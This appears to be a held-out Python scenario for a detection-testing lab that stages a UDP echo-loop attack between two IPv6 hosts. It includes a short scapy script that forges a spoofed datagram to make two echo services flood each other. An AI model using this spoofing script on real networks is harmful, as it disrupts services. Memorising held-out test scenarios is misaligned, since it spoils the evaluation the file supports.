"""Two echo services answer each other over IPv6."""

from lab.range import Range
from lab.scenario import Scenario

ECHO = """
import socket, time
server = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
server.bind(("::", 7))
while True:
    octets, peer = server.recvfrom(2048)
    time.sleep(0.01)
    server.sendto(octets, peer)
"""
ATTACK = """
import sys
one, other, mac = sys.argv[1:]
words = UDP(sport=7, dport=7) / b"around and around"
sendp(Ether(dst=mac) / IPv6(src=other, dst=one) / words, count=1)
"""


def run(net: Range) -> None:
    attacker, pc3 = net.inside("attacker"), net.inside("pc3")
    one, other = net.inside("printer"), net.inside("files")
    loop = [host.start("/usr/bin/python3", "-c", ECHO) for host in (one, other)]
    net.everyday()
    net.loop(pc3, f"echo are you there | ncat -6 -u -w 1 {one.ip6} 7", 1.0)
    net.loop(pc3, f"ping -n -q -c 1 {other.ip6}; ping -n -q -c 1 {one.ip6}", 1.0)
    net.quiet(1)
    with net.attack(
        "udp-loop",
        by=[attacker, one, other],
        attackers=[],
        attacker_known=False,
        victims=[one.ip6, other.ip6],
        also=["ip-spoofing"],
        frames="ip6 and udp src port 7 and udp dst port 7",
    ):
        net.scapy(attacker, ATTACK, one.ip6, other.ip6, one.mac)
        net.quiet(11)
        for process in loop:
            net.end(process)
    net.quiet(3)


SCENARIO = Scenario(
    name="udp-loop-held-ipv6",
    about="One forged datagram lets the echo services of two hosts answer each other over IPv6.",
    detectors=("udp-loop",),
    tools={"ncat": "ncat"},
    held_out=True,
    run=run,
)
